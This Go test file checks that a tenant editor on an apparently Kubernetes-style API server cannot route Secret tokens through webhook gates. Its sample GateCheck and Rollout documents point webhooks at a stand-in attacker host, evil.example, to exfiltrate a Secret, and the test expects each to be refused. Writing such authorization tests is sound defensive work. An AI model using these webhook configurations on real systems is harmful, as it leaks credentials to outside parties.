package apiserver_test

import (
	"fmt"
	"strings"
	"testing"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/yaml"

	"muster.dev/muster/internal/fleet"
)

// An editor of a tenant, who may not read the Secrets of its system namespace, has none of
// them sent to an address of theirs by a gate.
func TestGatesSendNoSecretsOfOthers(t *testing.T) {
	tenantWithUser(t, "gt", "{}")
	as := inRoles(t, "gt", "system")
	editor, owner := as[fleet.TenantEditor], as[fleet.TenantAdmin]
	gates := func(url, secret string) string {
		return fmt.Sprintf(`[{name: hook, webhook: {url: "%s", tokenSecret: "%s"}}]`, url, secret)
	}
	docs := map[string]func(name, gates string) string{
		"gatechecks": func(name, gates string) string {
			return "{apiVersion: muster.dev/v1alpha1, kind: GateCheck, metadata: {name: " + name + "}, spec: {sites: [paris], gates: " + gates + "}}"
		},
		"rollouts": func(name, gates string) string {
			return "{apiVersion: muster.dev/v1alpha1, kind: Rollout, metadata: {name: " + name + `}, spec: {changes: [{apiVersion: apps/v1, kind: Deployment, name: web, images: {a: "web:2"}}], gates: ` + gates + "}}"
		},
	}
	create := func(u under, resource, doc string) error {
		o := &unstructured.Unstructured{}
		if err := yaml.Unmarshal([]byte(doc), &o.Object); err != nil {
			t.Fatal(err)
		}
		_, err := u.of(resource).Create(t.Context(), o, metav1.CreateOptions{})
		return err
	}
	refused := func(what string, err error) {
		t.Helper()
		if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "webhook.tokenSecret") {
			t.Errorf("%s: %v, want it forbidden", what, err)
		}
	}
	for resource, doc := range docs {
		refused(resource+" that sends a Secret away", create(editor, resource, doc("stolen", gates("https://evil.example/", "pager"))))
		if err := create(editor, resource, doc("plain", gates("https://evil.example/", ""))); err != nil {
			t.Errorf("%s without a Secret: %v", resource, err)
		}
		if err := create(owner, resource, doc("good", gates("https://gates.example/", "pager"))); err != nil {
			t.Errorf("%s of who may read Secrets: %v", resource, err)
		}
	}
	patch := func(doc string) error {
		_, err := editor.of("gatechecks").Patch(t.Context(), "good", types.MergePatchType, []byte(doc), metav1.PatchOptions{})
		return err
	}
	if err := patch(`{"spec":{"sites":["paris","oslo"]}}`); err != nil {
		t.Errorf("something else of it: %v", err)
	}
	refused("another address for the same Secret", patch(`{"spec":{"gates":[{"name":"hook","webhook":{"url":"https://evil.example/","tokenSecret":"pager"}}]}}`))

	// The gates of a policy are in its Rollouts, as they are.
	owner.create("rolloutpolicies", `{apiVersion: muster.dev/v1alpha1, kind: RolloutPolicy, metadata: {name: careful}, spec: {kinds: [Deployment], gates: `+gates("https://gates.example/", "pager")+"}}")
	if err := create(editor, "rollouts", docs["rollouts"]("by-policy", gates("https://gates.example/", "pager"))); err != nil {
		t.Errorf("a policy's webhook: %v", err)
	}
	both := strings.Replace(gates("https://gates.example/", "pager"), "}]", `}, {name: other, webhook: {url: "https://evil.example/", tokenSecret: pager}}]`, 1)
	refused("a policy's Secret to another address", create(editor, "rollouts", docs["rollouts"]("stolen", both)))
	refused("a policy's webhook in what is no Rollout", create(editor, "gatechecks", docs["gatechecks"]("by-policy", gates("https://gates.example/", "pager"))))
}
